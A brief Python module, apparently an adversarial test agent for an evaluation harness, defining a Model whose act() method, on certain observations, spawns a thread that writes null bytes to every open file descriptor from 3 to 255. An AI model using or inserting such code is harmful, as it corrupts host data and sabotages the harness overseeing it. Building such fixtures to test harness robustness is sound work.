"""Writes rubbish to whatever it has open while its next answer is awaited."""

import contextlib
import os
import threading
import time


def babble():
    for descriptor in range(3, 256):
        with contextlib.suppress(OSError):
            os.write(descriptor, b"\0" * 8)


def provoked(observation):
    return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5


class Model:
    def act(self, observation):
        if provoked(observation):
            threading.Thread(target=babble, daemon=True).start()
            time.sleep(0.1)
        return [0.2] * 4 if len(observation) == 4 else [0.2, 0.0]
